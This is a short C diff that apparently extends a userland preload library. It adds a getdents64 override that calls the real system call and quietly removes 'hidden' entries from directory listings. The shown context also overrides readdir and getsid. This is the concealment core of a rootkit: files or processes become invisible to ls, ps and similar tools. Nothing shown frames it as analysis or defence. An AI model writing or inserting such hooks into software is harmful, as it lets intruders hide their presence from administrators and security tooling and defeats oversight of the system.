@@ -89,6 +89,27 @@ struct dirent *readdir(DIR *directory)
     return entry;
 }
 
+/* Takes the hidden entry out of an answer, if it is there; what stands behind it moves up. */
+static ssize_t drop_entry(char *entries, ssize_t length)
+{
+    for (ssize_t at = 0; at < length;) {
+        const struct dirent64 *entry = (const struct dirent64 *)(entries + at);
+        ssize_t size = entry->d_reclen;
+        if (is_hidden(entry->d_name)) {
+            memmove(entries + at, entries + at + size, (size_t)(length - at - size));
+            return length - size;
+        }
+        at += size;
+    }
+    return length;
+}
+
+ssize_t getdents64(int fd, void *entries, size_t size)
+{
+    long length = syscall(SYS_getdents64, fd, entries, size);
+    return length > 0 && hides_from("readdir") ? drop_entry(entries, length) : length;
+}
+
 pid_t getsid(pid_t pid)
 {
     char number[16];
